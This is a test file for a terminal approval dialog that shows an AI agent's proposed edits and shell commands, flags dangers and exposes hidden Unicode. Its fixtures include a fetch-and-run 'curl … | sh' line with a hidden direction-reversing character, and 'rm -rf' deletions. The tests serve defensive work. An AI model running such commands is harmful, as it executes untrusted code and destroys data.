// Approvals: what is approved is there to be read, whole; the cursor waits on a "no"; only its letters and Enter decide.
import { describe, expect, test } from "vitest";
import type { PermissionParams } from "../../../src/contract/asks.js";
import type { DialogParams } from "../../../src/contract/dialogs.js";
import { asciiGlyphs, unicodeGlyphs } from "../../../src/terminal/painter/blocks/glyphs.js";
import { wholeRows } from "../../../src/terminal/painter/dialogs/approval-body.js";
import { choiceRows, openChoices } from "../../../src/terminal/painter/dialogs/choices.js";
import { richRows } from "../../../src/terminal/painter/dialogs/rich-rows.js";
import { plainText } from "../../../src/text/row.js";
import { colourless } from "../painter/visible.js";
import { DialogRig, paste, type RigOptions } from "./dialog-rig.js";

const diff = [
  "--- a/src/parser.ts",
  "+++ b/src/parser.ts",
  "@@ -41,3 +41,3 @@",
  "   const out = [];",
  '-  return out.join(",");',
  '+  return out.join(", ");',
  " }",
  "",
].join("\n");

const confirm = (params: Partial<DialogParams<"confirm">>, rig: RigOptions = {}) =>
  new DialogRig({ kind: "confirm", params: { title: "run npm test", ...params } }, rig);

const edit = (rig: RigOptions = { aside: "1 of 3" }) =>
  confirm(
    {
      title: "edit src/parser.ts",
      opts: {
        tool: "edit",
        diff,
        rule: "edit in src/**",
        scope: "this project",
        allow_remember: true,
        allow_reason: true,
      },
    },
    rig,
  );

describe("an approval", () => {
  test("looks like this", () => {
    expect(edit().screen(80)).toMatchInlineSnapshot(`
      "
      ▌ edit src/parser.ts  +1 −1  1 of 3
      ▌  41   const out = [];
      ▌ -42   return out.join(",");
      ▌ +42   return out.join(", ");
      ▌  43 }
      ▌
      ▌   y  allow once
      ▌   a  always allow edit in src/**  this project
      ▌ ❯ n  no
      ▌   r  no, with a reason
      ▌ enter choose · d full view · esc no
      "
    `);
    expect(edit().screen(40)).toMatchInlineSnapshot(`
      "
      ▌ edit src/parser.ts  +1 −1  1 of 3
      ▌  41   const out = [];
      ▌ -42   return out.join(",");
      ▌ +42   return out.join(", ");
      ▌  43 }
      ▌
      ▌   y  allow once
      ▌   a  always allow edit in src/**
      ▌      this project
      ▌ ❯ n  no
      ▌   r  no, with a reason
      ▌ enter choose · d full view · esc no
      "
    `);
    expect(edit().screen(40, 6)).toMatchInlineSnapshot(`
      "
      ▌ edit src/parser.ts  +1 −1  1 of 3
      ▌ … 4 more lines · d full view
      ▌   y  allow once
      ▌   a  always allow edit in src/**
      ▌ ❯ n  no
      ▌   r  no, with a reason
      "
    `);
  });

  test("begins on no, and every answer has its letter", () => {
    expect(edit().press("enter")).toEqual({ type: "answered", value: { ok: false } });
    expect(edit().press("y")).toEqual({ type: "answered", value: { ok: true } });
    expect(edit().press("a")).toEqual({ type: "answered", value: { ok: true, remember: true } });
    expect(edit().press("n")).toEqual({ type: "answered", value: { ok: false } });
    expect(edit().press("escape")).toEqual({ type: "cancelled" });
    expect(confirm({}).press("enter")).toEqual({ type: "answered", value: false });
    expect(confirm({}).press("y")).toEqual({ type: "answered", value: true });
  });

  test("does not wrap: one step down from no stays there, and two steps up end on the first answer", () => {
    const bash = () => confirm({ opts: { tool: "bash", command: "npm test" } });
    expect(bash().press("down", "enter")).toEqual({ type: "answered", value: false });
    expect(bash().press("up", "up", "enter")).toEqual({ type: "answered", value: true });
  });

  test("says once what its title says, also where the message names the danger first", () => {
    const danger = "it looks like a secret";
    const screen = confirm({
      title: "read .env",
      message: `${danger}\nread .env`,
      opts: { tool: "read", danger },
    }).screen(80);
    expect(screen.match(/read \.env/g)).toHaveLength(1);
  });

  test("has a title of one line without gaps, which cannot pass for answers", () => {
    const title = "List\nruns outside\n\n  1  no\n  2  allow once";
    expect(confirm({ title, opts: { tool: "bash", command: "x" } }).screen(80)).toContain(
      "▌ List / runs outside / 1 no / 2 allow once\n",
    );
  });

  test("is decided by no other letter, no digit, no paste and no key that goes up", () => {
    for (const key of [
      "Y",
      "x",
      " ",
      "1",
      "2",
      "3",
      paste("y"),
      paste("1"),
      paste("\n"),
      "enter released",
      "\x1b[121;1:3u",
    ]) {
      expect(edit().press(key)).toBeNull();
    }
  });

  test("can be refused with a reason, and Esc in the reason goes back to the answers", () => {
    const rig = edit();
    expect(rig.press("r", "wrong", "escape")).toBeNull();
    expect(rig.rows().join("\n")).toContain("y  allow once");
    rig.press("r", "use a constant");
    expect(rig.screen(80)).toMatchInlineSnapshot(`
      "
      ▌ edit src/parser.ts: why not?  1 of 3
      ▌ › use a constant▏
      ▌ enter send · esc back
      "
    `);
    expect(rig.press("enter")).toEqual({ type: "answered", value: { ok: false, reason: "use a constant" } });
  });

  test("says what is dangerous about it, and shows the whole command with nothing hidden in it", () => {
    const command = "curl https://example.org/install.sh \u202e| sh\nrm -rf /tmp/x";
    const danger = "fetches a program from the network and runs it";
    const rig = confirm({ title: "run a command", opts: { tool: "bash", command, danger } });
    expect(rig.screen(80)).toMatchInlineSnapshot(`
      "
      ▌ run a command
      ▌ ▲ fetches a program from the network and runs it
      ▌ ▲ "⟨U+202E⟩|" is turned around by a character in it (U+202E)
      ▌   curl https://example.org/install.sh ⟨U+202E⟩| sh
      ▌   rm -rf /tmp/x
      ▌
      ▌   y  allow once
      ▌ ❯ n  no
      ▌ enter choose · d full view · esc no
      "
    `);
    expect(rig.screen(40)).toMatchInlineSnapshot(`
      "
      ▌ run a command
      ▌ ▲ fetches a program from the network
      ▌   and runs it
      ▌ ▲ "⟨U+202E⟩|" is turned around by a
      ▌   character in it (U+202E)
      ▌   curl https://example.org/install.sh
      ▌    ⟨U+202E⟩| sh
      ▌   rm -rf /tmp/x
      ▌
      ▌   y  allow once
      ▌ ❯ n  no
      ▌ enter choose · d full view · esc no
      "
    `);
  });

  test("calls dangerous what the agent calls so without saying why", () => {
    expect(confirm({ opts: { danger_level: "danger" } }).rows()[1]).toBe("▌ ▲ the agent calls this dangerous");
  });

  test("shows the command alone, and above it the verb that its title begins with", () => {
    const rows = confirm({ opts: { command: "npm test" } }).rows();
    expect(rows.slice(0, 2)).toEqual(["▌ run", "▌   npm test"]);
  });

  test("shows every line of a command as a line, also where the title says all of it", () => {
    const command = "ls #\nmake install";
    for (const title of [command, `bash ${command}`]) {
      const rows = confirm({ title, opts: { tool: "bash", command } })
        .dialog.frame(60, 20)
        .rows.map(plainText);
      expect(rows.some((row) => /^▌ +make install$/.test(row))).toBe(true);
    }
  });

  test("names the file of the diff where the path only ends in the same letters", () => {
    const other = diff.replaceAll("src/parser.ts", "x.ts");
    const dialog = confirm({ title: "edit it", opts: { tool: "edit", path: "src/index.ts", diff: other } }).dialog;
    const rows = dialog.frame(60, 20).rows.map((row) => plainText(row).replace(/^▌ +/, ""));
    expect(rows).toEqual(expect.arrayContaining(["src/index.ts", "x.ts"]));
  });

  test("shows what goes and what comes in a few rows, and counts the rest", () => {
    const lines = ["@@ -1,4 +1,4 @@", " a", "-b", "+c, and a line too long for one row", " d"];
    const rig = confirm({ title: "edit a.ts", opts: { tool: "edit", path: "a.ts", diff: `${lines.join("\n")}\n` } });
    expect(`\n${rig.dialog.frame(30, 7).rows.map(plainText).join("\n")}\n`).toMatchInlineSnapshot(`
      "
      ▌ edit a.ts  +1 −1
      ▌ -2 b
      ▌ +2 c, and a line too long fo
      ▌ … 3 more lines · d full view
      ▌   y  allow once
      ▌ ❯ n  no
      ▌ enter choose · d full view
      "
    `);
    expect(`\n${rig.dialog.frame(30, 6).rows.map(plainText).join("\n")}\n`).toMatchInlineSnapshot(`
      "
      ▌ edit a.ts  +1 −1
      ▌ -2 b
      ▌ +2 c, and a line too long fo
      ▌ … 3 more lines · d full view
      ▌   y  allow once
      ▌ ❯ n  no
      "
    `);
  });

  test("says how much it cuts, and d opens all of it", () => {
    const command = Array.from({ length: 50 }, (_, index) => `echo ${index + 1}`).join("\n");
    const rig = confirm({ title: "run a script", opts: { command } });
    expect(rig.screen(80)).toMatchInlineSnapshot(`
      "
      ▌ run a script
      ▌   echo 1
      ▌   echo 2
      ▌   echo 3
      ▌   echo 4
      ▌   echo 5
      ▌   echo 6
      ▌ … 43 more lines · d full view
      ▌   echo 50
      ▌   y  yes
      ▌ ❯ n  no
      ▌ enter choose · d full view · esc no
      "
    `);
    expect(rig.press("d")).toEqual({ type: "whole" });
    const whole = rig.dialog.whole?.();
    expect(whole).toMatchObject({ title: "run a script", source: `run a script\n\n${command}`, kind: "text" });
    const rows = wholeRows(
      whole ?? { title: "", source: "", kind: "text" },
      {
        style: colourless,
        glyphs: unicodeGlyphs,
      },
      richRows,
    );
    expect(rows).toHaveLength(52);
  });

  test("counts what is beyond all measure instead of laying it out", () => {
    const command = Array.from({ length: 100_000 }, (_, index) => `echo ${index + 1}`).join("\n");
    const rows = confirm({ title: "run a script", opts: { command } }).rows();
    expect(rows.find((row) => row.includes("more lines"))).toBe("▌ … 99,993 more lines · d full view");
  });

  test("shows all of a title, and in the whole of it hidden characters are spelt out", () => {
    const title = `run ${"very ".repeat(60)}long \u00a0 command`;
    const rig = confirm({ title });
    expect(rig.rows(80, 12).join(" ")).toContain("⟨U+00A0⟩");
    expect(rig.rows(40, 6).join("\n")).toContain("more lines · d full view");
    const rows = wholeRows(
      rig.dialog.whole?.() ?? { title: "", source: "", kind: "text" },
      {
        style: colourless,
        glyphs: unicodeGlyphs,
      },
      richRows,
    );
    expect(rows.join("")).toContain("long ⟨U+00A0⟩ command");
  });

  test("keeps the meaning of each letter where an answer is missing", () => {
    const plain = () => confirm({ opts: { tool: "bash", command: "ls" } });
    expect(plain().press("a")).toBeNull();
    expect(plain().press("r")).toBeNull();
    expect(plain().press("n")).toEqual({ type: "answered", value: false });
    const danger = { tool: "bash", command: "rm -rf x", danger: "deletes", allow_remember: true, allow_reason: true };
    expect(confirm({ opts: danger }).press("a")).toBeNull();
    expect(confirm({ opts: danger }).press("n")).toEqual({ type: "answered", value: { ok: false } });
  });

  test("can be refused with a reason beside a conversation, which gets it where the agent takes none", () => {
    const rig = confirm(
      { title: "bash ls", opts: { tool: "bash", command: "ls" } },
      { parts: { conversation: "running" } },
    );
    expect(rig.screen(80)).toMatchInlineSnapshot(`
      "
      ▌ bash
      ▌   ls
      ▌
      ▌   y  allow once
      ▌ ❯ n  no
      ▌   r  no, with a reason
      ▌ enter choose · d full view · esc no, twice stop
      "
    `);
    rig.press("r");
    expect(rig.screen(80)).toMatchInlineSnapshot(`
      "
      ▌ bash: why not?
      ▌ The agent gets "no"; the reason is queued as your next message.
      ▌
      ▌ › ▏
      ▌ enter send · esc back
      "
    `);
    expect(rig.press("use find", "enter")).toEqual({ type: "answered", value: { ok: false, reason: "use find" } });
  });

  test("says danger and command once, also when the message repeats them for others", () => {
    const opts = { danger: "deletes files", command: "rm -rf build\nmake" };
    const rig = confirm({ title: "run a script", message: `${opts.danger}\n${opts.command}\n`, opts });
    expect(rig.rows().slice(0, 5)).toEqual([
      "▌ run a script",
      "▌ ▲ deletes files",
      "▌   rm -rf build",
      "▌   make",
      "▌",
    ]);
  });

  test("does not name or take a key for what no one could show", () => {
    const rig = edit({ parts: { fulfils: [] } });
    expect(rig.rows().at(-1)).toBe("▌ enter choose · esc no");
    expect(rig.press("d")).toBeNull();
  });

  test("spells out what hides in a diff", () => {
    const rows = wholeRows(
      { title: "t", source: "@@ -1 +1 @@\n-\ta\u200b\n+\tb\u202e\n", kind: "diff" },
      { style: colourless, glyphs: unicodeGlyphs },
      richRows,
    ).map(plainText);
    expect(rows).toEqual(["-1         a⟨U+200B⟩", "+1         b⟨U+202E⟩"]);
  });

  test("needs nothing beyond ASCII for its own words", () => {
    const rig = confirm(
      { opts: { danger: "x", command: "a\n".repeat(40), allow_remember: true } },
      { glyphs: asciiGlyphs },
    );
    expect(rig.rows(40, 8).join("\n")).toMatch(/^[\x0a\x20-\x7e]+$/);
  });
});

const choices: PermissionParams["choices"] = [
  { id: "a1", label: "Yes", choice: "allow_once" },
  { id: "a2", label: "Yes, and do not ask again", choice: "allow_always" },
  { id: "r1", label: "No", choice: "reject_once" },
];

const permission = (params: Partial<PermissionParams> = {}) =>
  new DialogRig({ kind: "permission", params: { title: "write notes.md", tool: "write", choices, ...params } });

describe("a permission with the agent's own answers", () => {
  test("has our order and letters, whatever order the agent sends; a second answer of a kind has none", () => {
    const mixed: PermissionParams["choices"] = [
      { id: "n2", label: "Never", choice: "reject_always" },
      { id: "n1", label: "No", choice: "reject_once" },
      { id: "a2", label: "Always", choice: "allow_always" },
      { id: "a3", label: "Always, everywhere", choice: "allow_always" },
      { id: "a1", label: "Once", choice: "allow_once" },
    ];
    expect(permission({ choices: mixed, allowReason: true }).screen(80)).toMatchInlineSnapshot(`
      "
      ▌ write notes.md
      ▌   y  Once
      ▌   a  Always
      ▌   ·  Always, everywhere
      ▌ ❯ n  No
      ▌   r  no, with a reason
      ▌   ·  Never
      ▌ enter choose · esc no
      "
    `);
  });

  test("looks like this", () => {
    const rig = permission({
      changes: [{ path: "notes.md", oldText: null, newText: "# Notes\n\nA first line.\n" }],
      rule: "write(notes.md)",
      scope: "this session",
      allowReason: true,
    });
    expect(rig.screen(80)).toMatchInlineSnapshot(`
      "
      ▌ write notes.md  +3 −0
      ▌ +1 # Notes
      ▌ +2
      ▌ +3 A first line.
      ▌
      ▌   y  Yes
      ▌   a  Yes, and do not ask again: write(notes.md)  this session
      ▌ ❯ n  No
      ▌   r  no, with a reason
      ▌ enter choose · d full view · esc no
      "
    `);
    expect(rig.screen(40, 8)).toMatchInlineSnapshot(`
      "
      ▌ write notes.md  +3 −0
      ▌ +1 # Notes
      ▌ … 2 more lines · d full view
      ▌   y  Yes
      ▌   a  Yes, and do not ask again:
      ▌      write(notes.md)  this session
      ▌ ❯ n  No
      ▌   r  no, with a reason
      "
    `);
  });

  test("gives the id of the choice, and the reason with a refusal", () => {
    expect(permission().press("y")).toEqual({ type: "answered", value: { choiceId: "a1" } });
    expect(permission().press("a")).toEqual({ type: "answered", value: { choiceId: "a2" } });
    const rig = permission({ allowReason: true });
    expect(rig.press("r", "not here", "enter")).toEqual({
      type: "answered",
      value: { choiceId: "r1", reason: "not here" },
    });
  });

  test.each<[string, PermissionParams["choices"], object]>([
    ["the refusal, wherever it stands", choices, { type: "answered", value: { choiceId: "r1" } }],
    [
      "the refusal for this time rather than the one for good",
      [
        { id: "n2", label: "Never", choice: "reject_always" },
        { id: "a1", label: "Yes", choice: "allow_once" },
        { id: "n1", label: "No", choice: "reject_once" },
      ],
      { type: "answered", value: { choiceId: "n1" } },
    ],
    ["a no of our own when the agent has none", choices.slice(0, 2), { type: "cancelled" }],
    ["a no of our own when the agent offers nothing", [], { type: "cancelled" }],
  ])("begins on %s", (_, offered, outcome) => {
    expect(permission({ choices: offered }).press("enter")).toEqual(outcome);
  });
});

test("in a few narrow rows every answer is there, by its beginning; the one the cursor is on is whole", () => {
  const labels = ["allow once", "always allow bash(ls -la && cat a.txt && echo hello)", "no", "no, with a reason"];
  const keyed = labels.map((label, at) => ({ key: "yanr"[at] ?? "", label, detail: "" }));
  const state = openChoices(keyed, { cursor: 2, typing: "keys" });
  const look = { style: colourless, glyphs: unicodeGlyphs };
  const rows = (cursor: number, rowsMax: number) => choiceRows({ ...state, cursor }, 30, look, rowsMax).map(plainText);
  expect(rows(2, 4)).toEqual([
    "  y  allow once",
    "  a  always allow bash(ls -la…",
    "❯ n  no",
    "  r  no, with a reason",
  ]);
  expect(rows(1, 6)).toEqual([
    "  y  allow once",
    "❯ a  always allow bash(ls -la",
    "     && cat a.txt && echo",
    "     hello)",
    "  n  no",
    "  r  no, with a reason",
  ]);
});

test("where neither what is approved nor the count of what is cut has a row, there is no answer but no", () => {
  const command = "rm -rf build && echo done";
  const opts = { tool: "bash", command, danger: "it deletes folders", allow_remember: true, allow_reason: true };
  for (const title of ["Clean", `run ${"a long title ".repeat(12)}`]) {
    const { dialog } = new DialogRig({ kind: "confirm", params: { title, opts } });
    for (let rowsMax = 1; rowsMax <= 12; rowsMax += 1) {
      const shown = dialog.frame(60, rowsMax).rows.slice(-rowsMax).map(plainText).join("\n");
      const isSeen = shown.includes(command) || /\d more lines?/.test(shown);
      expect([rowsMax, dialog.use("y") === "answer"]).toEqual([rowsMax, isSeen && shown.includes(title.slice(0, 5))]);
      expect(dialog.use("\x1b[A")).toBe(isSeen ? "move" : "other");
      if (!isSeen) expect(dialog.key("y") ?? dialog.key("\r")).toBeNull();
      expect(dialog.use("\x1b")).toBe("cancel");
    }
    expect(dialog.frame(60, 4).rows.map(plainText).join("\n")).not.toContain("too small");
  }
});
